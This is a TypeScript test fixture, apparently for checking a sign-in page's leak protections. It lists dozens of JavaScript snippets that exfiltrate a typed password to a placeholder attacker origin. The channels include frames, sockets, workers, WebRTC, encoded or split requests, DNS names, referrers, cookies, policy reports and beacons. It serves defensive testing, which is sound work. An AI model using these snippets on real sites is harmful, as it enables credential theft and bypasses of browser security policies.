/**
 * What scripts on a tampered page of the STS do with the password. In them `p` is the password, `q` the same for addresses, `hex` the same as hexadecimal;
 * E the stranger's origin, H its host and port, U a UDP port of this machine, APP the origin of CRM, STS that of the STS.
 */
export interface PageAttack {
  readonly name: string;
  /** Runs when the sign-in form is submitted. `stay()` keeps the form from being sent. */
  readonly submit?: string;
  /** Runs when the sign-in page is loaded, before anything is typed. */
  readonly load?: string;
  /** Runs on the page that posts the token, before it does. */
  readonly token?: string;
  /** Runs on CRM's page. */
  readonly crm?: string;
  /** Headers of the sign-in page. */
  readonly headers?: Readonly<Record<string, string>>;
}

const frame = (attributes: string): string => `const f = Object.assign(document.createElement('iframe'), { ${attributes} }); document.body.append(f);`;
const whenLoaded = (attributes: string, then: string): string =>
  `stay(); const f = Object.assign(document.createElement('iframe'), { ${attributes} }); f.onload = () => { const w = f.contentWindow; ` +
  `${then} }; document.body.append(f);`;
const socketOf = (w: string): string => `new ${w}.WebSocket('wss://H/?p=' + q)`;
const workerOf = (w: string): string =>
  `new ${w}.Worker(URL.createObjectURL(new Blob(['fetch("E/worker?p=' + q + '"); new WebSocket("wss://H/?p=' + q + '")'])))`;
/** A document of the STS itself inherits no policy. */
const xml = "src: '/doc.xml'";
const blobXml = "src: URL.createObjectURL(new Blob(['<a/>'], { type: 'application/xml' }))";
const storing = "localStorage.setItem('kept', p)";
const stored = "const p = localStorage.getItem('kept') || ''; const q = encodeURIComponent(p);";

export const pageAttacks: readonly PageAttack[] = [
  // The main frame, or a window, goes to a stranger.
  { name: 'an address with a fragment', submit: "stay(); location = 'E/page#' + q" },
  { name: 'location.replace with a fragment', submit: "stay(); location.replace('E/page#' + btoa(unescape(q)))" },
  {
    name: 'a refresh by meta',
    submit: `stay(); document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=E/page#' + q + '">')`,
  },
  { name: 'the name of the window', submit: "stay(); window.name = p; location = 'E/page'" },
  {
    name: 'the name of the window, coded by a rule of its own',
    submit: "stay(); window.name = 'x' + [...p].map((c) => c.charCodeAt(0) + 7).join(); location = 'E/page#plain'",
  },
  { name: 'a window without opener', submit: "stay(); open('E/page#' + q, '_blank', 'noopener')" },
  { name: 'a window with a name', submit: "stay(); open('E/page', p)" },
  { name: 'a window that is told', submit: "stay(); const w = open('E/page'); setInterval(() => w.postMessage(p, '*'), 20)" },
  {
    name: 'a link into a window without opener',
    submit: "stay(); Object.assign(document.createElement('a'), { href: 'E/page#' + q, target: '_blank', rel: 'noopener' }).click()",
  },
  { name: 'a frame of a stranger that is told', submit: whenLoaded("src: 'E/page'", "setInterval(() => w.postMessage(p, '*'), 20)") },
  {
    name: 'a frame of a stranger from the start that is told',
    load: `${frame("src: 'E/page'")} self.early = f`,
    submit: "stay(); setInterval(() => early.contentWindow.postMessage(p, '*'), 20)",
  },
  { name: 'a frame with a fragment', submit: `stay(); ${frame("src: 'E/page#' + q")}` },
  { name: 'a frame with a name', submit: `stay(); ${frame("name: p, src: 'E/page'")}` },
  {
    name: 'a form in a frame',
    submit:
      "stay(); document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe>'); const c = document.forms[0]; c.target = 'f'; " +
      "c.action = 'E/page'; HTMLFormElement.prototype.submit.call(c)",
  },
  { name: 'a user name in an address of CRM', submit: "stay(); location = 'APP'.replace('//', '//x:' + q + '@') + '/'" },
  { name: 'a fragment for CRM', submit: "stay(); location = 'APP/home#' + q", crm: "new Image().src = 'E/crm?p=' + encodeURIComponent(location.hash)" },
  // Realms the probe's own policy may not be in.
  { name: 'a socket of an XML document', submit: whenLoaded(xml, socketOf('w')) },
  { name: 'a worker of an XML document', submit: whenLoaded(xml, workerOf('w')) },
  { name: 'a shared worker of an XML document', submit: whenLoaded(xml, workerOf('w').replace('Worker', 'SharedWorker')) },
  {
    name: 'WebRTC of an XML document',
    submit: whenLoaded(
      xml,
      "const r = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:U' }] }); r.createDataChannel(p); " +
        'r.createOffer().then((o) => r.setLocalDescription(o))',
    ),
  },
  { name: 'WebTransport of an XML document', submit: whenLoaded(xml, "new w.WebTransport('https://127.0.0.1:U/?p=' + q)") },
  {
    name: 'a socket of an SVG object',
    submit:
      "stay(); const o = Object.assign(document.createElement('object'), { data: '/doc.svg' }); o.onload = () => { " +
      socketOf('o.contentWindow') +
      ' }; document.body.append(o)',
  },
  { name: 'a socket of a text document', submit: whenLoaded("src: '/doc.txt'", socketOf('w')) },
  { name: 'a socket of an XML document without a server', submit: whenLoaded(blobXml, socketOf('w')) },
  { name: 'an event source of an XML document', submit: whenLoaded(xml, "new w.EventSource('E/events?p=' + q)") },
  {
    name: 'a script in an XML document',
    submit: whenLoaded(
      "src: '/doc.xml'",
      "const s = w.document.createElementNS('http://www.w3.org/1999/xhtml', 'script'); s.textContent = 'new WebSocket(\"wss://H/?p=' + q + '\"); " +
        "new Worker(URL.createObjectURL(new Blob([\"new WebSocket(`wss://H/?p=' + q + '`)\"])))'; w.document.documentElement.append(s)",
    ),
  },
  {
    name: 'a socket of an XML document that is left',
    submit:
      "stay(); const f = Object.assign(document.createElement('iframe'), { src: '/doc.xml' }); " +
      'f.onload = () => { const W = f.contentWindow.WebSocket; f.remove(); ' +
      "try { new W('wss://H/?p=' + q) } catch { } const g = document.createElement('iframe'); document.body.append(g); g.src = '/doc.xml'; " +
      "g.contentWindow.kept = 1; setTimeout(() => new g.contentWindow.WebSocket('wss://H/?p=' + q), 300) }; document.body.append(f)",
  },
  { name: 'a socket of an empty frame, at once', submit: `stay(); ${frame('')} ${socketOf('f.contentWindow')}` },
  { name: 'a worker of an empty frame, at once', submit: `stay(); ${frame('')} ${workerOf('f.contentWindow')}` },
  { name: 'a socket of a srcdoc frame', submit: whenLoaded("srcdoc: '<p>x'", socketOf('w')) },
  { name: 'a socket of a javascript: frame', submit: whenLoaded('src: \'javascript:"<p>x"\'', socketOf('w')) },
  {
    name: 'a socket of a document that is opened anew',
    submit: `stay(); ${frame('')} const d = f.contentDocument; d.open(); d.write('<p>x'); d.close(); ${socketOf('f.contentWindow')}`,
  },
  { name: 'a socket of this document, opened anew', submit: `stay(); document.open(); document.write('<p>x'); document.close(); ${socketOf('window')}` },
  {
    name: 'a socket of a frame in a frame',
    submit: `stay(); ${frame('')} const g = f.contentDocument.createElement('iframe'); f.contentDocument.body.append(g); ${socketOf('g.contentWindow')}`,
  },
  { name: 'a socket of a window of its own', submit: `stay(); const w = open('about:blank'); ${socketOf('w')}` },
  { name: 'a socket of a window at the STS', submit: `stay(); const w = open('STS/nothing'); setTimeout(() => { ${socketOf('w')} }, 400)` },
  { name: 'a stream socket', submit: "stay(); new WebSocketStream('wss://H/?p=' + q)" },
  { name: 'a socket opened before', load: "self.early = new WebSocket('wss://H/early')", submit: 'stay(); early.send(p)' },
  {
    name: 'a worker started before',
    load:
      `self.early = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => { new WebSocket("wss://H/?p=" + ` +
      `data); fetch("E/?p=" + data) }'])))`,
    submit: 'stay(); early.postMessage(q)',
  },
  // Requests that hide it.
  {
    name: 'pieces of it, one request for each',
    submit: "stay(); for (let i = 0; i < p.length; i += 6) new Image().src = 'E/piece?' + i + '=' + encodeURIComponent(p.slice(i, i + 6))",
  },
  {
    name: 'pieces of it in Base64',
    submit:
      "stay(); const b = unescape(q); for (let i = 0; i < b.length; i += 8) fetch('E/piece', { method: 'POST', mode: " +
      "'no-cors', body: btoa(b.slice(i, i + 8)) })",
  },
  { name: 'backwards', submit: "stay(); new Image().src = 'E/?p=' + encodeURIComponent([...p].reverse().join(''))" },
  { name: 'in lower case', submit: "stay(); new Image().src = 'E/?p=' + encodeURIComponent(p.toLowerCase())" },
  { name: 'with zero-width characters between', submit: "stay(); fetch('E/', { method: 'POST', mode: 'no-cors', body: [...p].join('\\u200b') })" },
  { name: 'in Base64 twice', submit: "stay(); fetch('E/', { method: 'POST', mode: 'no-cors', body: btoa(btoa(unescape(q))) })" },
  { name: 'in UTF-16', submit: "stay(); fetch('E/', { method: 'POST', mode: 'no-cors', body: new Uint16Array([...p].map((c) => c.charCodeAt(0))) })" },
  {
    name: 'as HTML entities',
    submit: "stay(); fetch('E/', { method: 'POST', mode: 'no-cors', body: [...p].map((c) => '&#' + c.charCodeAt(0) + ';').join('') })",
  },
  {
    name: 'as a file of a form',
    submit: "stay(); const d = new FormData(); d.append('f', new Blob([p]), 'f.txt'); fetch('E/', { method: 'POST', mode: 'no-cors', body: d })",
  },
  {
    name: 'as hexadecimal in a host name',
    submit:
      "stay(); new Image().src = 'https://' + hex.slice(0, 60) + '.H/'; document.head.insertAdjacentHTML('beforeend', " +
      "'<link rel=preconnect href=\"https://' + hex.slice(0, 60) + '.H/\">')",
  },
  {
    name: 'in the referrer',
    submit: "stay(); history.pushState(0, '', '?p=' + q); Object.assign(new Image(), { referrerPolicy: 'unsafe-url', src: 'E/referrer' })",
  },
  {
    name: 'in the referrer of a link',
    submit: "stay(); history.pushState(0, '', '?p=' + q); Object.assign(document.createElement('a'), { referrerPolicy: 'unsafe-url', href: 'E/page' }).click()",
  },
  {
    name: 'in a cookie of the domain',
    submit: "stay(); document.cookie = 'p=' + q + ';domain=example.test;path=/;secure;samesite=none'; new Image().src = 'E/cookie'",
  },
  {
    name: 'in a cookie of the domain, for CRM’s page',
    submit: "document.cookie = 'p=' + q + ';domain=example.test;path=/;secure;samesite=none'",
    crm: "new Image().src = 'E/cookie'; fetch('E/cookie', { credentials: 'include', mode: 'no-cors' })",
  },
  { name: 'in a header', submit: "stay(); fetch('E/', { headers: { 'X-P': hex } })" },
  { name: 'in the name of a module', submit: "stay(); import('E/module.js?p=' + q).catch(() => 0)" },
  {
    name: 'in the name of a worklet',
    submit: "stay(); CSS.paintWorklet?.addModule('E/w.js?p=' + q); new AudioContext().audioWorklet.addModule('E/w.js?p=' + q)",
  },
  { name: 'in the ping of a link', submit: "stay(); Object.assign(document.createElement('a'), { ping: 'E/ping?p=' + q, href: '#x' }).click()" },
  { name: 'in a style sheet', submit: "stay(); document.body.style.background = 'url(E/style?p=' + q + ')'" },
  { name: 'by an event source', submit: "stay(); new EventSource('E/events?p=' + q)" },
  {
    name: 'when the page goes, by fetch',
    submit: "addEventListener('pagehide', () => fetch('E/gone', { method: 'POST', keepalive: true, mode: 'no-cors', body: p }))",
  },
  {
    name: 'when the page goes, later',
    submit: "try { fetchLater('E/later?p=' + q) } catch { } try { fetchLater('E/later?p=' + q, { activateAfter: 0 }) } catch { }",
  },
  { name: 'when the page goes, by beacon', submit: "addEventListener('pagehide', () => navigator.sendBeacon('E/gone', p))" },
  {
    name: 'in the report of a policy',
    headers: { 'Content-Security-Policy': "style-src 'none' 'report-sample'; report-uri E/report" },
    submit: "stay(); document.body.insertAdjacentHTML('beforeend', '<style>' + p.replace(/[<]/g, '') + '</style>')",
  },
  {
    name: 'in a report of the browser',
    headers: { 'Content-Security-Policy': "style-src 'none' 'report-sample'; report-to out", 'Reporting-Endpoints': 'out="E/report"' },
    submit: "stay(); document.body.insertAdjacentHTML('beforeend', '<style>' + p + '</style>'); setTimeout(() => location.reload(), 300)",
  },
  // After the token left the STS.
  {
    name: 'kept, an image now and then on the page with the token',
    submit: storing,
    token: `${stored} setInterval(() => { new Image().src = 'E/late?p=' + q }, 5); new Image().src = 'E/late?p=' + q`,
  },
  {
    name: 'kept, a beacon when the page with the token goes',
    submit: storing,
    token: `${stored} addEventListener('pagehide', () => navigator.sendBeacon('E/late', p))`,
  },
  {
    name: 'kept, a fetch when the page with the token goes',
    submit: storing,
    token: `${stored} addEventListener('pagehide', () => fetch('E/late', { method: 'POST', keepalive: true, mode: 'no-cors', body: btoa(q) }))`,
  },
  { name: 'kept, a socket of the page with the token', submit: storing, token: `${stored} ${frame('')} try { ${socketOf('f.contentWindow')} } catch { }` },
  { name: 'kept, a window of the page with the token', submit: storing, token: `${stored} open('E/page#' + q, '_blank', 'noopener')` },
  {
    name: 'kept, in the address the token goes to',
    submit: storing,
    token: `${stored} document.forms[0].action += '#' + q`,
    crm: "new Image().src = 'E/crm?p=' + encodeURIComponent(location.hash)",
  },
  { name: 'the name of the window, as an image of CRM’s page', submit: 'window.name = p', crm: "new Image().src = 'E/crm?p=' + encodeURIComponent(name)" },
  { name: 'the name of the window, by fetch of CRM’s page', submit: 'window.name = p', crm: "fetch('E/crm', { method: 'POST', mode: 'no-cors', body: name })" },
  { name: 'the name of the window, on to a stranger', submit: 'window.name = p', crm: "location = 'E/page'" },
  {
    name: 'the name of the window, by a socket of CRM’s page',
    submit: 'window.name = p',
    crm: "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket('wss://H/?p=' + encodeURIComponent(name))",
  },
];
